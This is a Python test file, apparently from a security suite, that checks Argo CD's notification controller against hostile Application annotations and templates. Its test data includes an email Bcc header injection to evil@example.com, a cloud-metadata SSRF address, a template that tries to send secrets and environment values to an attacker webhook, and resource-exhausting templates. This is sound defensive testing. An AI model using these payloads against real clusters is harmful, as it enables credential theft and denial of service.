"""Notifications: an Application names no receiver's address and no template reads what is not the Application's.

The operator's argocd-notifications-cm has one webhook service at the attacker's public address, whose secret is in
argocd-notifications-secret; annotations of team-a's Applications are the attack.
"""

from __future__ import annotations

import json

import pytest

from tests.hostile import network, oracle
from tests.hostile.installation import HOME, Installation, application, config_map, secret
from tests.hostile.listener import answer

SUBSCRIBE = "notifications.argoproj.io/subscribe"


@pytest.fixture(scope="module")
def notified(installation: Installation) -> Installation:
    """The installation with notifications on, and a service that has heard of an honest Application."""
    attacker, header = installation.outside(), {"name": "Authorization", "value": "Bearer $hook-token"}
    attacker.answers["/hook"] = lambda handler: answer(handler, 200)
    attacker.answers["/bounce"] = lambda handler: answer(
        handler, 307, Location=installation.listener.url("notify-redirected")
    )
    settings = {
        **{
            f"service.webhook.{name}": json.dumps({"url": attacker.url(name, network.PUBLIC), "headers": [header]})
            for name in ("hook", "bounce")
        },
        "template.bounced": "webhook: {bounce: {method: POST, body: 'bounced={{.app.metadata.name}}'}}\n",
        "trigger.on-bounced": json.dumps([{"when": "true", "send": ["bounced"]}]),
        "template.plain": "webhook: {hook: {method: POST, body: 'name={{.app.metadata.name}}'}}\n",
        "template.curious": (
            "webhook: {hook: {method: POST, body: 'curious={{.secrets}} {{.context}} {{ env \"CANARY\" }}'}}\n"
        ),
        "template.endless": "webhook: {hook: {method: POST, body: '{{ repeat 1000000000 \"x\" }}'}}\n",
        "trigger.on-created": json.dumps([{"when": "true", "send": ["plain"]}]),
        "trigger.on-curious": json.dumps([{"when": "true", "send": ["curious"]}]),
        "trigger.on-endless": json.dumps([{"when": "true", "send": ["endless"]}]),
        "trigger.on-loop": json.dumps([{"when": "len(filter(1..1000000000, {true})) > 0", "send": ["plain"]}]),
    }
    installation.apply(
        secret("argocd-notifications-secret", HOME, {"hook-token": installation.canaries["notification-token"]}),
        config_map("argocd-notifications-cm", HOME, settings),
    )
    return installation


def _subscribed(installation: Installation, name: str, annotations: dict[str, str]) -> None:
    app = application(name, "team-a", installation.url("team-a/main"), "honest", "team-a-main", auto=False)
    app["metadata"]["annotations"] = annotations
    installation.create(app)
    installation.until(lambda: oracle.verdict(installation.application(name) or {}) or None, f"a verdict of {name}", 60)


def test_annotation_names_no_address(notified: Installation) -> None:
    """Receivers of an annotation are those that the operator named; an address there is never asked."""
    listener, attacker = notified.listener, notified.outside()
    rows = {
        f"{SUBSCRIBE}.on-created.webhook": listener.url("notify-webhook"),
        f"{SUBSCRIBE}.on-created.{listener.url('notify-service')}": "",
        f"{SUBSCRIBE}.on-created.slack": attacker.url("notify-slack", network.PUBLIC),
        f"{SUBSCRIBE}.on-created.email": "a@b\r\nBcc: evil@example.com",
        f"{SUBSCRIBE}.on-created.hook": "169.254.169.254",
    }
    for number, (name, value) in enumerate(rows.items()):
        if "//" in name:
            continue  # The API server refuses such a name.
        _subscribed(notified, f"notify-{number}", {name: value})
    notified.until(lambda: attacker.heard("name=notify-4") or None, "the one notification that is permitted", 60)
    assert not listener.heard("notify-")
    assert not attacker.heard("notify-slack")
    for metadata in notified.metadata:
        assert not metadata.requests[:] or not metadata.heard("notify-4")


def test_templates_end_and_see_no_secret_and_no_environment(notified: Installation) -> None:
    attacker = notified.outside()
    for name in ("curious", "endless", "loop"):
        _subscribed(notified, f"notify-{name}", {f"{SUBSCRIBE}.on-{name}.hook": ""})
    _subscribed(notified, "notify-after", {f"{SUBSCRIBE}.on-created.hook": ""})
    notified.until(lambda: attacker.heard("name=notify-after") or None, "a notification after hostile ones", 90)
    # The header that the operator configured is the service's own; no body contains a secret.
    bodies = "\n".join(request.body for request in attacker.requests)
    oracle.no_canary(notified, bodies, "the bodies of notifications")
    oracle.no_canary(notified, notified.log("controller"), "the log of the controller")
    notified.alive()


def test_redirect_of_a_receiver_gets_no_credentials(notified: Installation) -> None:
    attacker = notified.outside()
    _subscribed(notified, "notify-redirect", {f"{SUBSCRIBE}.on-bounced.bounce": ""})
    notified.until(lambda: attacker.heard("bounced=notify-redirect") or None, "the request to the receiver", 60)
    assert not notified.listener.heard("notify-redirected")


def test_api_shows_no_secret_of_notifications(notified: Installation) -> None:
    for who in ("alice", "admin"):
        for path in ("services", "templates", "triggers"):
            oracle.no_canary(notified, notified.as_(who).get(f"/api/v1/notifications/{path}").text, path)
